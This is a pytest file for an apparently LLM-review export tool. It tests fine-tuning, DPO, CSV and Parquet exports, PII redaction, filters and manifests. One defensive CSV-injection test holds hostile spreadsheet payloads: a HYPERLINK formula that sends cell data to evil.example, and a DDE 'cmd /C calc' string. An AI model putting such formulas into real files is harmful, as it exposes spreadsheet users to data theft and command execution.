"""Exports end to end: every format round-trips, filters, de-duplication, split, manifest."""

from __future__ import annotations

import csv
import hashlib
import json
import uuid
from datetime import UTC, timedelta
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from sqlalchemy import Engine
from tests.export.helpers import (
    LONG_CORRECTION,
    T0,
    add_batch,
    add_review,
    add_sample,
    corrected_samples,
)

from redline.errors import RedlineError
from redline.export.query import count_reviewed
from redline.export.seen import SeenKeys
from redline.export.service import dry_run, preview_redaction, run_export
from redline.export.types import ExportFilters, ExportFormat, ExportOptions, ExportResult

CHAT = [
    {"role": "user", "content": "Mein Konto ist gesperrt. Meine Mail: jörg@example.de"},
    {"role": "assistant", "content": "Welche Kundennummer haben Sie?"},
    {"role": "user", "content": "Kundennummer 12345678, Tel. +49 30 1234567"},
]
CORRECTION = "Ich habe Ihr Konto entsperrt; eine Bestätigung geht an jörg@example.de."


def read_jsonl(path: Path) -> list[Any]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


@pytest.fixture
def store(engine: Engine) -> dict[str, uuid.UUID]:
    """A multi-turn German chat with PII and a correction, and a plain English sample."""
    batch = add_batch(engine)
    chat = add_sample(
        engine,
        batch,
        n=1,
        input_messages=CHAT,
        input_text="(rendered chat)",
        output="Bitte wenden Sie sich an den Support.",
        language="de",
        system_prompt="Du bist ein Support-Agent.",
    )
    add_review(engine, chat, "ana", correction=CORRECTION, categories=["incomplete", "tone"])
    plain = add_sample(engine, batch, n=2, output="Click reset.")
    add_review(engine, plain, "ben", verdict="good", correction=None, categories=[], rating=5)
    return {"chat": chat, "plain": plain}


def export(engine: Engine, tmp_path: Path, name: str, **options: Any) -> ExportResult:
    return run_export(engine, ExportOptions(**options), tmp_path / name)


def test_openai_records_round_trip_with_multi_turn_input_and_masked_pii(
    engine: Engine, store: dict[str, uuid.UUID], tmp_path: Path
) -> None:
    result = export(engine, tmp_path, "ft.jsonl", format="openai")
    assert (result.read, result.written) == (2, 1)
    assert result.dropped == {"no correction": 1}
    [record] = read_jsonl(tmp_path / "ft.jsonl")
    assert record == {
        "messages": [
            {"role": "system", "content": "Du bist ein Support-Agent."},
            {"role": "user", "content": "Mein Konto ist gesperrt. Meine Mail: [EMAIL]"},
            # Production's earlier answer: judged by no one, so not trained on.
            {"role": "assistant", "content": "Welche Kundennummer haben Sie?", "weight": 0},
            {"role": "user", "content": "Kundennummer 12345678, Tel. [PHONE]"},
            {"role": "assistant", "content": CORRECTION.replace("jörg@example.de", "[EMAIL]")},
        ]
    }
    assert result.redactions == {"email": 2, "phone": 1}
    assert result.tokens_total == result.tokens_max > 0


def test_dpo_pairs_are_trl_prompt_chosen_rejected(
    engine: Engine, store: dict[str, uuid.UUID], tmp_path: Path
) -> None:
    export(engine, tmp_path, "pairs.jsonl", format="dpo", redact=False)
    [pair] = read_jsonl(tmp_path / "pairs.jsonl")
    assert set(pair) == {"prompt", "chosen", "rejected"}
    assert pair["prompt"] == [{"role": "system", "content": "Du bist ein Support-Agent."}, *CHAT]
    assert pair["chosen"] == [{"role": "assistant", "content": CORRECTION}]
    assert pair["rejected"] == [
        {"role": "assistant", "content": "Bitte wenden Sie sich an den Support."}
    ]


def test_csv_and_parquet_carry_every_review_field(
    engine: Engine, store: dict[str, uuid.UUID], tmp_path: Path
) -> None:
    export(engine, tmp_path, "reviews.csv", format="csv")
    export(engine, tmp_path, "reviews.parquet", format="parquet")
    with (tmp_path / "reviews.csv").open(encoding="utf-8", newline="") as handle:
        rows = {row["sample_id"]: row for row in csv.DictReader(handle)}
    table = pq.read_table(tmp_path / "reviews.parquet").to_pylist()
    from_parquet = {row["sample_id"]: row for row in table}
    assert set(rows) == set(from_parquet) == {str(store["chat"]), str(store["plain"])}

    chat_csv, chat_pq = rows[str(store["chat"])], from_parquet[str(store["chat"])]
    assert chat_csv["verdict"] == chat_pq["verdict"] == "bad"
    assert json.loads(chat_csv["categories"]) == chat_pq["categories"] == ["incomplete", "tone"]
    assert (
        chat_csv["correction"]
        == chat_pq["correction"]
        == CORRECTION.replace("jörg@example.de", "[EMAIL]")
    )
    assert chat_pq["rating"] == 2 and chat_pq["flagged"] is False
    assert chat_pq["reviewers"] == ["ana"] and chat_pq["language"] == "de"
    # Parquet keeps the turns and reviews as lists of structs, CSV as JSON text.
    assert chat_pq["input_messages"][2]["content"].endswith("Tel. [PHONE]")
    assert json.loads(chat_csv["input_messages"]) == chat_pq["input_messages"]
    [review] = chat_pq["reviews"]
    assert review["reviewer"] == "ana" and review["time_spent_ms"] == 30_000
    assert review["updated_at"] == T0 + timedelta(days=1)
    [csv_review] = json.loads(chat_csv["reviews"])
    assert csv_review["updated_at"] == (T0 + timedelta(days=1)).isoformat()
    assert chat_pq["captured_at"] == T0 + timedelta(hours=1)
    assert chat_csv["captured_at"] == (T0 + timedelta(hours=1)).isoformat()
    plain = from_parquet[str(store["plain"])]
    assert plain["verdict"] == "good" and plain["correction"] is None and plain["rating"] == 5


def test_parquet_loads_with_hugging_face_datasets(engine: Engine, tmp_path: Path) -> None:
    # Imported here (it is slow to import), not skipped: it is in the test extra, so a
    # missing install must fail this test.
    import datasets

    corrected_samples(engine, 40)
    result = export(engine, tmp_path, "reviews.parquet", format="parquet", validation_ratio=0.3)
    assert result.validation > 0
    loaded = datasets.load_dataset(
        "parquet",
        data_files={
            "train": str(tmp_path / "reviews.train.parquet"),
            "validation": str(tmp_path / "reviews.validation.parquet"),
        },
        cache_dir=str(tmp_path / "hf-cache"),
    )
    assert loaded["train"].num_rows == result.train
    assert loaded["validation"].num_rows == result.validation
    assert set(loaded["validation"]["split"]) == {"validation"}
    assert loaded["train"][0]["correction"].startswith(LONG_CORRECTION)
    assert loaded["train"].features["categories"].feature.dtype == "string"


def test_parquet_columns_are_typed_for_datasets_and_pandas(
    engine: Engine, store: dict[str, uuid.UUID], tmp_path: Path
) -> None:
    import datasets
    import pandas as pd

    export(engine, tmp_path, "reviews.parquet", format="parquet")
    loaded = datasets.load_dataset(
        "parquet",
        data_files=str(tmp_path / "reviews.parquet"),
        cache_dir=str(tmp_path / "hf-cache"),
    )["train"]
    features = loaded.features
    for column in ("captured_at", "reviewed_at"):
        assert features[column] == datasets.Value("timestamp[us, tz=UTC]")
    turns = features["input_messages"]
    assert isinstance(turns, datasets.List)
    assert turns.feature == {"role": datasets.Value("string"), "content": datasets.Value("string")}
    reviews = features["reviews"]
    assert isinstance(reviews, datasets.List)
    assert reviews.feature["updated_at"] == datasets.Value("timestamp[us, tz=UTC]")
    assert reviews.feature["rating"] == datasets.Value("int32")
    assert reviews.feature["categories"] == datasets.List(datasets.Value("string"))
    rows = {row["sample_id"]: row for row in loaded}
    chat, plain = rows[str(store["chat"])], rows[str(store["plain"])]
    assert [turn["role"] for turn in chat["input_messages"]] == ["user", "assistant", "user"]
    assert chat["reviews"][0]["reviewer"] == "ana"
    assert chat["captured_at"].replace(tzinfo=UTC) == T0 + timedelta(hours=1)
    assert plain["input_messages"] is None

    frame = pd.read_parquet(tmp_path / "reviews.parquet")
    assert str(frame["captured_at"].dtype) == "datetime64[us, UTC]"
    assert frame.set_index("sample_id").loc[str(store["chat"]), "captured_at"] == pd.Timestamp(
        T0 + timedelta(hours=1)
    )


def test_regression_set_of_a_prompt_version(engine: Engine, tmp_path: Path) -> None:
    batch = add_batch(engine)
    good = add_sample(engine, batch, n=1, output="Use the reset link.")
    add_review(engine, good, verdict="good", correction=None)
    fixed = add_sample(engine, batch, n=2)
    add_review(engine, fixed)
    unfixed = add_sample(engine, batch, n=3)
    add_review(engine, unfixed, correction=None)
    other = add_sample(engine, batch, n=4, prompt_version="v2")
    add_review(engine, other, verdict="good")

    with pytest.raises(RedlineError, match="one prompt version"):
        export(engine, tmp_path, "reg.jsonl", format="regression")
    result = export(
        engine,
        tmp_path,
        "reg.jsonl",
        format="regression",
        filters=ExportFilters(prompt_name="support", prompt_version="v3"),
    )
    records = {r["id"]: r for r in read_jsonl(tmp_path / "reg.jsonl")}
    assert set(records) == {str(good), str(fixed), str(unfixed)}
    assert records[str(good)]["reference"] == "Use the reset link."
    assert records[str(fixed)]["reference"] == LONG_CORRECTION
    assert records[str(fixed)]["original_output"] == "Click the reset button (2)."
    # Judged bad with no better answer: still a case to fix, with no reference.
    assert records[str(unfixed)]["reference"] is None
    assert (result.written, result.dropped) == (3, {})


# --------------------------------------------------------------------------- manifest


def test_manifest_describes_the_files_and_its_counts_add_up(engine: Engine, tmp_path: Path) -> None:
    corrected_samples(engine, 30)
    batch = add_batch(engine)
    short = add_sample(engine, batch, n=100)
    add_review(engine, short, correction="too short")
    result = export(engine, tmp_path, "ft.jsonl", format="openai", validation_ratio=0.3)

    manifest = json.loads((tmp_path / "ft.jsonl.manifest.json").read_text(encoding="utf-8"))
    assert manifest["format"] == "openai"
    assert manifest["redline_version"]
    assert manifest["source"]["store"] == str((tmp_path / "store.sqlite").resolve())
    assert manifest["filters"]["min_correction_chars"] == 20
    counts = manifest["counts"]
    assert counts["read"] == 31
    assert counts["read"] == counts["written"] + sum(counts["dropped"].values())
    assert counts["written"] == counts["train"] + counts["validation"] == 30
    assert counts["dropped"] == {"correction shorter than 20 characters": 1}
    redaction = manifest["redaction"]
    assert set(redaction["masks"]) == {"email", "phone", "card", "iban", "ipv4", "ipv6"}
    assert "phonenumbers" in redaction["masks"]["phone"]
    assert "names of people or companies (no name detection)" in redaction["not_masked"]
    assert {f["name"] for f in manifest["files"]} == {"ft.train.jsonl", "ft.validation.jsonl"}
    for entry in manifest["files"]:
        data = (tmp_path / entry["name"]).read_bytes()
        assert entry["sha256"] == hashlib.sha256(data).hexdigest()
        assert entry["bytes"] == len(data)
        assert entry["rows"] == len(data.splitlines()) == counts[entry["split"]]
    assert result.written == 30
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("ft")) == [
        "ft.jsonl.manifest.json",
        "ft.train.jsonl",
        "ft.validation.jsonl",
    ]


# --------------------------------------------------------------------------- filters


def test_an_adjudicated_review_wins_over_the_individual_reviews(engine: Engine) -> None:
    batch = add_batch(engine)
    disputed = add_sample(engine, batch, n=1)
    add_review(engine, disputed, "ana", verdict="good", correction=None)
    add_review(engine, disputed, "ben", verdict="bad")
    tie = dry_run(engine, ExportOptions(format="csv"))
    assert tie.dropped == {"reviewers disagree": 1}

    add_review(engine, disputed, "lead", verdict="good", correction=None, adjudicated=True)
    result = dry_run(
        engine,
        ExportOptions(format="csv", filters=ExportFilters(verdicts=("good",), min_agreement=3)),
    )
    assert result.written == 1  # the lead's word stands whatever the agreement filter


def test_agreement_flags_reviewers_and_verdicts(engine: Engine) -> None:
    batch = add_batch(engine)
    agreed = add_sample(engine, batch, n=1)
    add_review(engine, agreed, "ana")
    add_review(engine, agreed, "ben", correction="Another long enough correction text.")
    single = add_sample(engine, batch, n=2)
    add_review(engine, single, "ana")
    flagged = add_sample(engine, batch, n=3)
    add_review(engine, flagged, "ben", flagged=True)

    def written(**filters: Any) -> tuple[int, dict[str, int]]:
        result = dry_run(engine, ExportOptions(filters=ExportFilters(**filters)))
        return result.written, result.dropped

    assert written() == (2, {"flagged for a lead": 1})
    # Agreement is checked before the flag: the flagged sample has one review.
    assert written(min_agreement=2) == (1, {"fewer than 2 reviewers agree": 2})
    assert written(exclude_flagged=False) == (3, {})
    assert written(reviewers=("ben",), exclude_flagged=False) == (
        2,
        {"no review by the chosen reviewers": 1},
    )
    assert written(verdicts=("good",))[1] == {"verdict not selected": 2, "flagged for a lead": 1}
    assert written(categories=("hallucination",))[0] == 0
    assert written(categories=("incomplete", "hallucination"))[0] == 2
    assert written(min_correction_chars=1000)[1]["correction shorter than 1000 characters"] == 2


def test_sample_filters_prompt_model_language_dates(engine: Engine) -> None:
    batch = add_batch(engine)
    for n, (model, language, version) in enumerate(
        [("gpt-4o", "en", "v3"), ("claude", "de", "v3"), ("gpt-4o", "fr", "v2")]
    ):
        add_review(
            engine,
            add_sample(
                engine, batch, n=24 * n, model=model, language=language, prompt_version=version
            ),
        )

    def read(**filters: Any) -> int:
        chosen = ExportFilters(**filters)
        result = dry_run(engine, ExportOptions(filters=chosen))
        # The progress bar's total: what the export reads, counted ahead.
        assert count_reviewed(engine, chosen) == result.read
        return result.read

    assert read() == 3
    assert read(models=("gpt-4o",)) == 2
    assert read(languages=("de", "fr")) == 2
    assert read(prompt_name="support", prompt_version="v2") == 1
    assert read(prompt_name="other") == 0
    assert read(since=T0 + timedelta(hours=1)) == 2
    assert read(since=T0, until=T0 + timedelta(days=1)) == 1
    assert read(reviewers=("ben",)) == 3  # read, then dropped: no review by ben
    with pytest.raises(RedlineError, match="date range is empty"):
        read(since=T0, until=T0)


def test_identical_inputs_are_exported_once(engine: Engine) -> None:
    batch = add_batch(engine)
    for n in range(3):
        same_input = add_sample(engine, batch, n=n, input_text="Same question", output=f"o{n}")
        add_review(engine, same_input)
    result = dry_run(engine, ExportOptions())
    assert (result.written, result.dropped) == (1, {"duplicate input": 2})
    assert dry_run(engine, ExportOptions(deduplicate=False)).written == 3


@pytest.mark.parametrize("filter_bits", [1 << 25, 8])
def test_duplicates_are_found_across_the_compact_key_store(filter_bits: int) -> None:
    # Merges into the sorted array every 4 keys; with an 8-bit filter nearly every
    # new key collides with an earlier one there and is looked up in full.
    seen = SeenKeys(buffer=4, filter_bits=filter_bits)
    keys = [(n * 0x9E3779B97F4A7C15) % 2**64 for n in range(50)]
    assert all(seen.add(k) for k in keys)
    assert not any(seen.add(k) for k in keys)
    assert len(seen) == 50 and 2**64 - 1 not in seen


def test_a_withdrawn_review_is_no_judgment(engine: Engine) -> None:
    batch = add_batch(engine)
    withdrawn = add_sample(engine, batch, n=1)
    add_review(engine, withdrawn, deleted=True)
    kept = add_sample(engine, batch, n=2)
    add_review(engine, kept)
    add_review(engine, kept, "ben", verdict="good", correction=None, deleted=True)
    result = dry_run(engine, ExportOptions())
    assert (result.read, result.written, result.dropped) == (1, 1, {})


def test_the_split_is_deterministic_and_keeps_inputs_apart(engine: Engine, tmp_path: Path) -> None:
    corrected_samples(engine, 200)
    first = export(engine, tmp_path, "a.jsonl", validation_ratio=0.2)
    second = export(engine, tmp_path, "b.jsonl", validation_ratio=0.2)
    assert 20 <= first.validation <= 60
    assert (first.train, first.validation) == (second.train, second.validation)
    for split in ("train", "validation"):
        a = (tmp_path / f"a.{split}.jsonl").read_bytes()
        assert a == (tmp_path / f"b.{split}.jsonl").read_bytes()
    train = {r["messages"][1]["content"] for r in read_jsonl(tmp_path / "a.train.jsonl")}
    validation = {r["messages"][1]["content"] for r in read_jsonl(tmp_path / "a.validation.jsonl")}
    assert not train & validation


def test_redaction_preview_shows_before_and_after(
    engine: Engine, store: dict[str, uuid.UUID]
) -> None:
    preview = preview_redaction(engine, ExportOptions(format="csv"))
    assert preview.scanned == 2
    # The CSV row holds the correction twice (its column and `reviews`): masked twice.
    assert preview.counts == {"email": 3, "phone": 1}
    fields = {item.field: item for item in preview.items}
    assert fields["input turn 3"].original.endswith("+49 30 1234567")
    assert fields["input turn 3"].redacted.endswith("[PHONE]")
    assert fields["correction"].kinds == ("email",)
    assert fields["review by ana: correction"].kinds == ("email",)


@pytest.mark.parametrize("fmt", ["openai", "dpo", "csv", "parquet", "regression"])
def test_the_preview_counts_what_the_export_masks(
    engine: Engine, tmp_path: Path, fmt: ExportFormat
) -> None:
    """Every text carries PII, but each format writes only some of them: the preview
    counted every text (an OpenAI export "phone 5" previewed, "phone 1" masked)."""
    batch = add_batch(engine)
    for n in range(6):
        sample = add_sample(
            engine,
            batch,
            n=n,
            system_prompt="Escalate to +44 20 7946 0958.",
            input_text=f"I am ana{n}@example.com, call +1.415.555.01{n:02}",
            output=f"Call us on 030 1234 56{n:02}.",
        )
        add_review(
            engine,
            sample,
            note=f"customer gave her card 4111 1111 1111 1111 ({n})",
            correction=f"{LONG_CORRECTION} Or call 0151 2345 67{n:02}.",
        )
    options = ExportOptions(
        format=fmt, filters=ExportFilters(prompt_name="support", prompt_version="v3")
    )
    suffix = {"csv": ".csv", "parquet": ".parquet"}.get(fmt, ".jsonl")
    result = run_export(engine, options, tmp_path / f"out{suffix}")
    preview = preview_redaction(engine, options)
    assert preview.scanned == result.read == 6
    assert preview.counts == result.redactions
    masked = {item.field for item in preview.items}
    if fmt == "openai":
        # No output and no note in a fine-tuning record: their PII is not counted.
        assert result.redactions == {"email": 6, "phone": 18}
        assert masked == {"system prompt", "input", "correction"}
    written = (tmp_path / f"out{suffix}").read_bytes()
    if fmt != "parquet":
        assert b"ana0@example.com" not in written and b"415.555" not in written


def test_a_record_dropped_after_masking_is_not_counted(engine: Engine, tmp_path: Path) -> None:
    batch = add_batch(engine)
    broken = [
        {"role": "user", "content": "mail ana@example.com"},
        {"role": "robot", "content": "?"},
    ]
    add_review(engine, add_sample(engine, batch, n=1, input_messages=broken, input_text="x"))
    add_review(engine, add_sample(engine, batch, n=2, input_text="call +1.415.555.0132"))
    result = run_export(engine, ExportOptions(), tmp_path / "ft.jsonl")
    assert result.dropped == {"invalid chat record (unrecognized_role)": 1}
    assert result.redactions == {"phone": 1}
    assert preview_redaction(engine, ExportOptions()).counts == {"phone": 1}


def test_a_bad_custom_pattern_stops_the_export_before_writing(
    engine: Engine, store: dict[str, uuid.UUID], tmp_path: Path
) -> None:
    with pytest.raises(RedlineError, match="'ticket' is not a valid regular expression"):
        export(engine, tmp_path, "ft.jsonl", custom_patterns={"ticket": "TCK-(\\d+"})
    assert not list(tmp_path.glob("ft*"))


def test_export_reads_a_shared_postgresql_database(pg_engine: Engine, tmp_path: Path) -> None:
    corrected_samples(pg_engine, 5)
    result = run_export(pg_engine, ExportOptions(shared_profile="team"), tmp_path / "ft.jsonl")
    assert result.written == 5
    manifest = json.loads((tmp_path / "ft.jsonl.manifest.json").read_text(encoding="utf-8"))
    assert manifest["source"]["shared_profile"] == "team"
    assert manifest["source"]["shared_database"].startswith("postgresql")
    assert "***" in manifest["source"]["shared_database"]  # never the password
    # Every set of columns the export reads, and both ways it counts ahead.
    for fmt in ("dpo", "csv"):
        filters = ExportFilters(until=T0 + timedelta(hours=3))
        result = dry_run(pg_engine, ExportOptions(format=fmt, filters=filters))
        assert (result.read, result.written) == (3, 3)
        assert count_reviewed(pg_engine, filters) == 3


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(engine: Engine, tmp_path: Path) -> None:
    """OWASP CSV injection: text starting with = + - @ TAB or CR becomes plain text."""
    import pandas as pd

    batch = add_batch(engine)
    hostile = add_sample(
        engine, batch, n=1, output=FORMULA, input_text="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    add_review(engine, hostile, "ana", verdict="bad", correction="-2+3", note="\tnote", rating=1)
    export(engine, tmp_path, "reviews.csv", format="csv")
    with (tmp_path / "reviews.csv").open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["output"] == "'" + FORMULA
    assert row["input_text"].startswith("'@SUM")
    assert row["note"] == "'\tnote"
    assert row["correction"] == "'-2+3"
    frame = pd.read_csv(tmp_path / "reviews.csv")
    assert frame.loc[0, "output"] == "'" + FORMULA
    assert frame.loc[0, "rating"] == 1  # numbers stay numbers
    manifest = json.loads((tmp_path / "reviews.csv.manifest.json").read_text(encoding="utf-8"))
    assert "OWASP" in manifest["options"]["csv"]["formula_cells"]
    assert manifest["options"]["csv"]["excel"] is False


def test_excel_csv_has_a_byte_order_mark_and_crlf_lines(
    engine: Engine, store: dict[str, uuid.UUID], tmp_path: Path
) -> None:
    import pandas as pd

    export(engine, tmp_path, "plain.csv", format="csv")
    export(engine, tmp_path, "excel.csv", format="csv", excel=True)
    plain, excel = (tmp_path / "plain.csv").read_bytes(), (tmp_path / "excel.csv").read_bytes()
    assert not plain.startswith(b"\xef\xbb\xbf") and b"\r\n" not in plain
    assert excel.startswith(b"\xef\xbb\xbf")
    assert excel.count(b"\r\n") == excel.count(b"\n")  # every line ends in CRLF
    frame = pd.read_csv(tmp_path / "excel.csv", encoding="utf-8-sig")
    assert frame.columns[0] == "sample_id"  # the mark is not part of the first name
    assert frame["correction"].str.contains("Bestätigung").any()
